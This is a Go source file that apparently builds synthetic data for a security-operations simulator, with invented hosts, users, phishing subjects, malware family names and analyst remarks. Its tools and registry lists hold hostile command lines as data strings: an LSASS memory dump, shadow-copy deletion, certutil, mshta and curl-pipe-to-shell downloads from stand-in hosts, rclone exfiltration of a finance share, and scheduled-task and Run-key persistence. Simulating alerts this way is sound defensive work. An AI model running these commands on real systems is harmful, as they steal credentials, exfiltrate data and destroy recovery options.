package defendersim

// The words that the estate is made of. Addresses and names of the outside
// are from the ranges reserved for documentation.

type hostKind struct {
	prefix, os, version string
	build               int64
	group               string
	groupID             int64
	tags                []string
	cloud               bool
}

// hostKinds is ordered by how rare a kind is; the last one fills the rest.
var hostKinds = []hostKind{
	{"WG-DC", "WindowsServer2022", "21H2", 20348, "Tier 0", 3, []string{"Domain controller"}, false},
	{"WG-SQL", "WindowsServer2019", "1809", 17763, "Servers", 5, []string{"PCI"}, true},
	{"WG-WEB", "WindowsServer2022", "21H2", 20348, "Internet facing", 7, []string{"DMZ"}, true},
	{"WG-LNX", "Linux", "22.4", 5, "Servers", 5, nil, true},
	{"WG-MAC", "macOS", "15.2", 24, "Workstations", 11, nil, false},
	{"WG-BRN", "Windows10", "22H2", 19045, "Branches", 12, []string{"Teller"}, false},
	{"WG-LAP", "Windows11", "24H2", 26100, "Workstations", 11, nil, false},
}

var firstNames = []string{"Amara", "José", "Zoë", "Łukasz", "Priya", "Henrik", "Mei", "Olga", "Tariq", "Ingrid", "Noah", "Aiko", "Fatima", "Diego", "Søren", "Chloé", "Ravi", "Hannah", "Kwame", "Elif", "Marta", "Owen", "Leila", "Jonas"}

var lastNames = []string{"Okafor", "García", "Lindqvist", "Nowak", "Raman", "Becker", "Tanaka", "Petrova", "Haddad", "Fjeld", "Whitaker", "Moreau", "Osei", "Yılmaz", "Costa", "Müller", "O'Neill", "Dvořák", "Mbeki", "Sato", "Rossi", "Kaur", "Hughes", "Novák"}

var places = []struct {
	country, name, city string
	lat, long           float64
}{
	{"NL", "Netherlands", "Amsterdam", 52.37, 4.9},
	{"BR", "Brazil", "São Paulo", -23.55, -46.63},
	{"SG", "Singapore", "Singapore", 1.35, 103.82},
	{"US", "United States", "Ashburn", 39.04, -77.49},
	{"RO", "Romania", "Bucharest", 44.43, 26.1},
	{"NG", "Nigeria", "Lagos", 6.45, 3.39},
	{"DE", "Germany", "Frankfurt am Main", 50.11, 8.68},
	{"VN", "Vietnam", "Hanoi", 21.03, 105.85},
	{"CA", "Canada", "Montréal", 45.5, -73.57},
	{"ZA", "South Africa", "Johannesburg", -26.2, 28.05},
}

var families = []string{"Trojan:Win32/Emotet", "HackTool:Win32/Mimikatz", "Behavior:Win32/CobaltStrike", "TrojanDownloader:JS/SocGholish", "Ransom:Win32/LockBit",
	"PWS:Win32/RedLine", "Trojan:Win32/Qakbot", "Backdoor:ASP/Webshell", "PUA:Win32/InstallCore", "TrojanSpy:Win32/LummaStealer", "Ransom:Win32/BlackCat",
	"Trojan:MSIL/AgentTesla", "CoinMiner:Linux/Xmrig", "Worm:Win32/Gamarue", "PUA:Win32/Conduit", "Exploit:O97M/CVE-2017-11882", "HackTool:Win32/Rubeus", "Trojan:Script/Wacatac"}

var malwareNames = []string{"Invoice_%d.exe", "svch0st%d.exe", "update-%d.js", "Scan%d.pdf.lnk", "wg_tool%d.dll", "Setup_%d.msi", "remit%d.iso", "help%d.aspx"}

var malwareFolders = []string{`C:\Users\Public\Downloads`, `C:\ProgramData\Oracle\Java`, `C:\Windows\Temp`, `C:\Users\Default\AppData\Local\Temp`, `/tmp/.cache`, `C:\inetpub\wwwroot\aspnet_client`, `E:\`}

type tool struct{ name, path, publisher, command string }

const microsoft = "Microsoft Corporation"

var tools = []tool{
	{"powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0`, microsoft, `powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=`},
	{"cmd.exe", `C:\Windows\System32`, microsoft, `cmd.exe /c net group "Domain Admins" /domain & nltest /domain_trusts`},
	{"rundll32.exe", `C:\Windows\System32`, microsoft, `rundll32.exe C:\ProgramData\wg_tool.dll,Start`},
	{"vssadmin.exe", `C:\Windows\System32`, microsoft, `vssadmin.exe delete shadows /all /quiet`},
	{"wmic.exe", `C:\Windows\System32\wbem`, microsoft, `wmic.exe /node:"WG-SQL-0101" process call create "cmd.exe /c whoami > C:\temp\o.txt"`},
	{"schtasks.exe", `C:\Windows\System32`, microsoft, `schtasks.exe /create /tn "Update Check" /tr "wscript C:\Users\Public\u.vbs" /sc minute /mo 30`},
	{"mshta.exe", `C:\Windows\System32`, microsoft, `mshta.exe https://cdn.static-files.example/a.hta`},
	{"certutil.exe", `C:\Windows\System32`, microsoft, `certutil.exe -urlcache -split -f https://files.parcel-notice.example/p.txt p.exe`},
	{"w3wp.exe", `C:\Windows\System32\inetsrv`, microsoft, `w3wp.exe -ap "DefaultAppPool"`},
	{"procdump64.exe", `C:\Tools`, microsoft, `procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\l.dmp`},
	{"rclone.exe", `C:\PerfLogs`, "", `rclone.exe copy D:\Shares\Finance remote:wg --transfers 16`},
	{"WINWORD.EXE", `C:\Program Files\Microsoft Office\root\Office16`, microsoft, `"WINWORD.EXE" /n "C:\Users\Public\Downloads\Remittance – Q3.docm"`},
	{"PSEXESVC.exe", `C:\Windows`, "Sysinternals", `C:\Windows\PSEXESVC.exe`},
	{"bash", `/usr/bin`, "", `bash -c "curl -s http://203.0.113.9/x.sh | sh"`},
	{"explorer.exe", `C:\Windows`, microsoft, `C:\Windows\Explorer.EXE`},
	{"bcdedit.exe", `C:\Windows\System32`, microsoft, `bcdedit.exe /set {default} recoveryenabled no`},
}

var urlHosts = []string{"login", "secure", "portal", "docs", "cdn", "files", "mail", "sso"}

var urlDomains = []string{"woodgrove-benefits", "parcel-notice", "static-files", "invoice-portal", "e-sign-review", "payroll-update", "shared-docs", "account-verify"}

var urlPaths = []string{"auth?session=%d", "view/%d", "s/%d/index.html", "d/%d.iso", "track.php?id=%d&lang=en", "zahlungsübersicht/%d"}

var subjects = []string{"Action required: confirm your direct deposit", "Invoice 88213 overdue", "Your parcel could not be delivered", "Bonus statement – please sign",
	"Re: wire transfer to new beneficiary", "Voicemail from +44 20 7946 0991", "Zoë shared \"Budget 2027\" with you", "Password expires today", "FW: remittance advice", "支払いのお知らせ"}

var senders = []string{"HR Benefits", "Accounts Payable", "Parcel Desk", "IT Service", "Docu Review", "Payroll Team", "Legal Office"}

var oauthNames = []string{"Mail Sync Helper", "PDF Merge Online", "Calendar Assistant", "Backup Connector", "Upgrade", "Survey Forms Pro"}

var groupNames = []string{"Domain Admins", "Enterprise Admins", "Backup Operators", "SWIFT Operators", "Treasury Approvers", "DnsAdmins"}

var cloudAppNames = []cloudApp{{11161, "Microsoft 365"}, {20893, "Microsoft Exchange Online"}, {20892, "Microsoft SharePoint Online"}, {28375, "Microsoft Teams"}, {11770, "Google Workspace"}, {10489, "Box"}, {11114, "Salesforce"}}

var analysts = []string{"soc-tier1@" + upnDomain, "n.whitaker@" + upnDomain, "l.haddad@" + upnDomain, "m.tanaka@" + upnDomain}

var remarks = []string{"Called the user: not done by them. Session revoked, password reset.", "Device isolated, image taken.", "Known scanner of the audit team, see CHG-20418.",
	"Waiting for the mail team to purge the rest.", "Same sender as last week – blocked the domain.", "Nothing on the timeline beyond the alert.",
	"Escalated to tier 2.", "User confirmed the trip to São Paulo.", "Hash is on the allow list since this morning.", "Ticket INC0077120 opened with \"Desktop\"."}

var tagWords = []string{"VIP", "Finance", "Follow up", "Watch list", "Tier 0", "Branch office", "Client data"}

var registryKeys = []struct{ hive, key, name, value string }{
	{"HKEY_CURRENT_USER", `Software\Microsoft\Windows\CurrentVersion\Run`, "JavaUpdater", `C:\ProgramData\Oracle\Java\svch0st.exe`},
	{"HKEY_LOCAL_MACHINE", `SOFTWARE\Policies\Microsoft\Windows Defender`, "DisableAntiSpyware", "1"},
	{"HKEY_LOCAL_MACHINE", `SYSTEM\ControlSet001\Services\xqzpv`, "ImagePath", `%COMSPEC% /b /c start /b /min powershell`},
	{"HKEY_LOCAL_MACHINE", `SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Update Check`, "Id", "{6B1F3A77-0000-4C1D-9A6C-2D5E10B7C001}"},
}
